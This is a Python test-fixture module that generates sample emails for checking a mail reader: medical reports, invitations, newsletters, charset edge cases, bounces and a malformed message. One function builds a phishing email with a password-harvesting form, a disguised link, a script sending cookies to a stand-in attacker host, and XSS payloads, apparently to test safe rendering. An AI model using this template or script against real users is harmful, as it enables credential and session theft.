"""Messages that are not plain letters: everything that a mail reader must show well, or survive.

Each function takes a `Draft` (who, when, a number) and gives the bytes of one message.
"""

import datetime

import blobs
from message import as_html, crlf, file_part, headers, multipart, text_part, whole
from people import OUTSIDE


class Draft:
    """The frame of one message."""

    def __init__(self, owner, date, number, message_id):
        self.owner = owner
        self.date = date
        self.number = number
        self.message_id = message_id
        self.boundary = f"=_pli_{number:06d}"

    def head(self, sender, subject, extra=(), style=0):
        return headers(OUTSIDE[sender], [self.owner.pair], subject, self.date, self.message_id, style, (), extra)


def report_with_pdf(d):
    text = "Bonjour,\n\nVeuillez trouver ci-joint le compte rendu et l’ECG.\n\nBien confraternellement,\nHélène Dupré"
    report = blobs.pdf(f"Compte rendu n° {d.number}", ["Rythme sinusal à 62/min.", "PR 180 ms, QRS 92 ms, QTc 418 ms.", "Conclusion : tracé normal."])
    return whole(d.head("dupre", f"Compte rendu et ECG, dossier {d.number}"), multipart("mixed", d.boundary, [
        text_part(text),
        file_part("application/pdf", f"Compte rendu n° {d.number} été.pdf", report),
        file_part("image/png", "ecg.png", blobs.png(30, 110, 160, 96)),
    ]))


def health_package(d):
    text = "Un document de santé vous est adressé.\n\nType : compte rendu d’examens biologiques."
    return whole(d.head("labo", f"XDM/1.0/DDM+Résultats {d.number}", ["X-MSS-INS: test"]), multipart("mixed", d.boundary, [
        text_part(text, encoding="quoted-printable"),
        file_part("application/zip", "IHE_XDM.ZIP", blobs.health_package(f"Résultats {d.number}")),
        file_part("application/pdf", "resultats.pdf", blobs.pdf("Résultats", ["CRP : 42 mg/L", "Créatinine : 88 µmol/L"])),
    ]))


def signature_with_picture(d):
    text = "Dear colleague,\n\nThe slot on Friday at 9:00 is yours.\n\nMary O’Brien"
    html = as_html(text, f'<p><img src="cid:logo{d.number}@practice.example" alt="Practice logo" width="48"></p>')
    return whole(d.head("obrien", "Appointment on Friday", style=1), multipart("related", d.boundary, [
        multipart("alternative", d.boundary + ".a", [text_part(text), text_part(html, "html", encoding="quoted-printable")]),
        file_part("image/png", "logo.png", blobs.png(20, 130, 90), f"logo{d.number}@practice.example"),
    ]))


def invitation(d):
    start = (d.date + datetime.timedelta(days=6)).replace(hour=12, minute=30, second=0)
    end = start + datetime.timedelta(hours=1)
    stamp = "%Y%m%dT%H%M%SZ"
    calendar = crlf(f"""BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//agenda.example//FR
METHOD:REQUEST
BEGIN:VEVENT
UID:rcp-{d.number}@agenda.example
SEQUENCE:0
DTSTAMP:{d.date.strftime(stamp)}
DTSTART:{start.strftime(stamp)}
DTEND:{end.strftime(stamp)}
SUMMARY:Réunion de concertation pluridisciplinaire
LOCATION:Salle Laënnec\\, bâtiment B
ORGANIZER;CN=Agenda partagé:mailto:noreply@agenda.example
ATTENDEE;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:{d.owner.address}
END:VEVENT
END:VCALENDAR
""")
    text = "Vous êtes invité à une réunion de concertation pluridisciplinaire, salle Laënnec."
    inner = multipart("alternative", d.boundary + ".a", [
        text_part(text),
        text_part(as_html(text), "html"),
        text_part(calendar, "calendar", parameters="; method=REQUEST"),
    ])
    attached = file_part('application/ics; name="invitation.ics"', "invitation.ics", calendar.encode())
    return whole(d.head("agenda", "Invitation : réunion de concertation"), multipart("mixed", d.boundary, [inner, attached]))


def newsletter(d):
    rows = "".join(
        f'<tr><td><img src="https://images.lettre-du-soin.example/{d.number}/{n}.jpg" width="120" height="80" alt=""></td>'
        f'<td><h2>Actualité n° {n}</h2><p>Ce que change le nouveau référentiel pour les équipes de soins.</p>'
        f'<a href="https://lettre-du-soin.example/a/{n}?lecteur={d.number}">Lire la suite</a></td></tr>'
        for n in range(1, 9)
    )
    html = (
        '<html><head><style>@import url("https://lettre-du-soin.example/fonts.css"); td { padding: 8px }</style></head>'
        f'<body background="https://lettre-du-soin.example/fond.png"><table>{rows}</table>'
        f'<img src="https://compteur.example/p.gif?lecteur={d.number}" width="1" height="1"></body></html>'
    )
    extra = [
        f"List-Unsubscribe: <https://lettre-du-soin.example/d?{d.number}>, <mailto:desabonnement@lettre-du-soin.example>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        "List-Id: La Lettre du soin <lettre.lettre-du-soin.example>",
        "Precedence: bulk",
    ]
    return whole(d.head("lettre", "La Lettre du soin : huit actualités", extra), multipart("alternative", d.boundary, [
        text_part("Huit actualités. À lire sur https://lettre-du-soin.example/", encoding="quoted-printable"),
        text_part(html, "html", encoding="base64"),
    ]))


def phishing(d):
    html = """<html><body><div style="font-family:Arial"><p>Cher utilisateur,</p>
<p>Votre boîte est <b>presque pleine</b>. Confirmez votre mot de passe sous 24 heures, sinon vos messages seront supprimés.</p>
<form action="https://voleur.example/recolte" method="post"><input name="motdepasse" type="password" placeholder="Mot de passe">
<button>Confirmer</button></form>
<p><a href="https://voleur.example/connexion">https://sante.example/connexion</a></p>
<script>document.location = 'https://voleur.example/?' + document.cookie</script>
<img src="https://voleur.example/vu.gif" onerror="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">
<a href="javascript:alert(document.domain)">Aide</a></div></body></html>"""
    return whole(d.head("voleur", "URGENT : votre boîte va être supprimée", ["X-Priority: 1"]), text_part(html, "html"))


def latin1(d):
    text = "Bonjour,\n\nLe coût estimé est élevé ; l'été, le délai s'allonge. À bientôt,\nNoël"
    return whole(d.head("noel", "Délai d'été", style=2), text_part(text, charset="iso-8859-1", encoding="quoted-printable"))


def windows_1252_undeclared(d):
    body = "Bonjour,\r\n\r\nCe message ne dit pas son jeu de caractères : l’œuvre « déjà » coûte 12 €.\r\n".encode("cp1252")
    head = d.head("boeuf", "Sans jeu de caractères", style=1)
    return "\r\n".join(head).encode() + b"\r\nContent-Type: text/plain\r\n\r\n" + body


def japanese(d):
    text = "お世話になっております。\n検査結果をお送りします。\n\n健康 太郎"
    return whole(d.head("taro", "検査結果のご報告"), text_part(text, charset="iso-2022-jp", encoding="7bit"))


def polish(d):
    text = "Dzień dobry,\n\nPrzesyłam wyniki badań. Proszę o potwierdzenie odbioru.\n\nPaweł Śląski"
    return whole(d.head("slaski", "Wyniki badań – żółty kod"), text_part(text, charset="iso-8859-2", encoding="quoted-printable"))


def flowed(d):
    text = "Une ligne souple se prolonge \nsur la suivante, \net ne doit pas être coupée à l’écran.\n\n> Une citation \n> souple aussi.\n"
    return whole(d.head("mueller", "Texte souple"), text_part(text, parameters="; format=flowed; delsp=no"))


def forwarded_as_attachment(d):
    inner = headers(OUTSIDE["imagerie"], [OUTSIDE["dupre"]], "Clichés d’IRM", d.date - datetime.timedelta(days=1), f"<inner-{d.number}@chu-nord.example>")
    inner = whole(inner, text_part("Les clichés sont prêts.\n\nLe secrétariat"))
    part = b"Content-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\n" + inner
    return whole(d.head("dupre", "TR : Clichés d’IRM"), multipart("mixed", d.boundary, [text_part("Pour information."), part]))


def bounce(d):
    text = "Votre message n’a pas pu être remis.\n\n<inconnu@ailleurs.example> : utilisateur inconnu"
    status = b"Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mail.sante.example\r\n\r\n" + (
        b"Final-Recipient: rfc822; inconnu@ailleurs.example\r\nAction: failed\r\nStatus: 5.1.1\r\n")
    original = b"Content-Type: text/rfc822-headers\r\n\r\nSubject: Bonjour\r\n"
    extra = ["Auto-Submitted: auto-replied"]
    return whole(d.head("agenda", "Message non remis", extra), multipart("report", d.boundary, [text_part(text), status, original], "; report-type=delivery-status"))


def read_receipt_wanted(d):
    extra = [f"Disposition-Notification-To: <{OUTSIDE['lemaitre'][1]}>", "Importance: high"]
    return whole(d.head("lemaitre", "Merci d’accuser réception", extra), text_part("Bonjour,\n\nMerci d’accuser réception de ce message.\n\nF. Lemaître"))


def broken(d):
    """No end of the parts, a wrong charset, base64 that is none, a header without a colon, a date that is no date."""
    head = [line for line in d.head("labo", "Message mal formé") if not line.startswith("Date:")]
    head += ["Date: hier soir vers minuit", "Ceci n'est pas un en-tête", f'Content-Type: multipart/mixed; boundary="{d.boundary}"']
    body = (
        f"\r\n\r\n--{d.boundary}\r\nContent-Type: text/plain; charset=klingon\r\n\r\nOn lit encore ce texte.\r\n"
        f"--{d.boundary}\r\nContent-Type: application/pdf; name=\"coupe.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0x!!!****\r\nLjQKJ"
    )
    return ("\r\n".join(head) + body).encode()


ALL = [report_with_pdf, health_package, signature_with_picture, invitation, newsletter, phishing, latin1,
       windows_1252_undeclared, japanese, polish, flowed, forwarded_as_attachment, bounce, read_receipt_wanted, broken]
